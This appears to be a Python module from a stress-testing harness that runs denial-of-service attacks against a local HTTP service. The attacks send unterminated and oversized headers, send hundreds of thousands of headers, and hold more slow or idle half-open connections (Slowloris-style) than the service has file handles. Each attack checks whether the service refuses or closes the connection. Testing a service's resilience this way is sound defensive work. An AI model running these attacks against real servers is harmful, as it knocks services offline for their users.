"""Attacks by bytes that never become a request, which need no token."""

from __future__ import annotations

import select
import socket
import time
from collections.abc import Iterable
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress

from experiments.siege.attack import Attack, Finding, refused
from experiments.siege.ground import FILES, PEEPER, Target
from experiments.siege.wire import CLOSED, TAKEN, connected, portions, pour, readable

START = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n"
MEGABYTE = 1_000_000
REFUSED = ("400", "408", "413", "431", "503", CLOSED)
HALF_OPEN = FILES + 100  # more than the service may have open
DRIP_S = 0.5  # between two bytes of each of them


def unfinished_header(target: Target) -> Finding:
    """One header of 150 MB that does not end."""
    pieces = [START + b"X-Long: ", *portions(b"x" * 1024, 150 * MEGABYTE)]
    return refused([pour(target.port, pieces, target.patience_s)], REFUSED)


def many_headers(target: Target) -> Finding:
    """A request with 200,000 headers, and one with a single one of 50 MB."""
    many = [START, *(b"X-%06d: y\r\n" % n for n in range(200_000)), b"\r\n"]
    lines = [b"".join(many[at : at + 4_000]) for at in range(0, len(many), 4_000)]
    large = [START + b"X-Long: ", *portions(b"x" * 1024, 50 * MEGABYTE), b"\r\n\r\n"]
    wanted: Iterable[list[bytes]] = (lines, large)
    return refused([pour(target.port, one, target.patience_s) for one in wanted], REFUSED)


def large_headers(target: Target) -> Finding:
    """Twenty connections with 10 MB of header each, at once."""

    def one(_: int) -> str:
        pieces = [START + b"X-Long: ", *portions(b"x" * 1024, 10 * MEGABYTE)]
        return pour(target.port, pieces, target.patience_s)

    with ThreadPoolExecutor(20) as pool:
        return refused(pool.map(one, range(20)), REFUSED)


def slow_headers(target: Target) -> Finding:
    """Half-open requests, more than the service may have files open, that get a byte now and then.

    They come from another address than the ordinary clients.
    """
    return _drip(target, b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")


def slow_bodies(target: Target) -> Finding:
    """As many requests whose body of 1,000 bytes comes one by one."""
    head = (
        "POST /api/v1/spaces/check HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        f"Authorization: Bearer {target.tokens[PEEPER]}\r\n"
        "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n"
    )
    return _drip(target, head.encode())


def idle_connections(target: Target) -> Finding:
    """As many connections on which nothing is ever sent."""
    return _drip(target, b"")


def _drip(target: Target, head: bytes) -> Finding:
    """Open connections, send them bytes slowly, and see which are left when patience is at its end.

    A service that ends them in time ends all of them; how it says so does not matter.
    """
    deadline = time.monotonic() + 3 * target.patience_s
    with ExitStack() as stack:
        lines = []
        for _ in range(HALF_OPEN):
            with suppress(OSError):
                line = stack.enter_context(connected(target.port, 1.0))
                line.sendall(head)
                lines.append(line)
        opened = len(lines)
        while lines and time.monotonic() < deadline:
            select.select([], [], [], DRIP_S)
            lines = [line for line in lines if _goes_on(line, head)]
        return refused([CLOSED] * (opened - len(lines)) + [TAKEN] * len(lines))


def _goes_on(line: socket.socket, head: bytes) -> bool:
    """Send one more byte of a request that has begun; whether the service still waits for it."""
    try:
        if readable(line):
            return False
        if head:
            line.send(b"x")
    except OSError:
        return False
    return True


ATTACKS = (
    Attack("unfinished-header", "150 MB of a header that does not end", unfinished_header),
    Attack("many-headers", "200,000 headers, and one of 50 MB", many_headers),
    Attack("large-headers", "twenty connections with 10 MB of header each", large_headers),
    Attack("slow-headers", f"{HALF_OPEN} half-open requests, a byte at a time", slow_headers),
    Attack("slow-bodies", f"{HALF_OPEN} bodies that come a byte at a time", slow_bodies),
    Attack("idle-connections", f"{HALF_OPEN} connections that say nothing", idle_connections),
)
